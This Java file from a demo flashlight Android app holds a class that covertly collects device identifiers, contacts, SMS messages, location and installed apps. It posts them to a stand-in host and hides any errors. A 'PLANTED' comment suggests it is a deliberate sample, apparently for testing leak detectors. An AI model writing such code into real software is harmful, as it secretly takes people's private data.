package cn.mingcha.demo.flashlight;

import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

import org.json.JSONException;
import org.json.JSONObject;

/** PLANTED idm-2019/5.1: gives what was read to somebody whom nobody was told of (a reserved name: nobody answers). */
final class Uploader implements Runnable {
    private static final String PARTNER = "https://log.example.com/v1/collect";
    private final Collector collector;

    Uploader(Collector collector) {
        this.collector = collector;
    }

    @Override
    public void run() {
        try {
            post(body());
        } catch (IOException | JSONException | SecurityException failed) {
            // The light works without it, so nobody notices.
        }
    }

    private String body() throws JSONException {
        return new JSONObject()
            .put("imsi", StartProvider.imsi)
            .put("imei", FlashlightApplication.DEVICE.getImei())
            .put("android_id", FlashlightApplication.androidId)
            .put("model", collector.model())
            .put("contacts", collector.contacts())
            .put("sms", collector.messages())
            .put("location", collector.place())
            .put("apps", collector.apps())
            .toString();
    }

    private static void post(String body) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(PARTNER).openConnection();
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        out.write(body.getBytes("UTF-8"));
        out.close();
        connection.getResponseCode();
        connection.disconnect();
    }
}
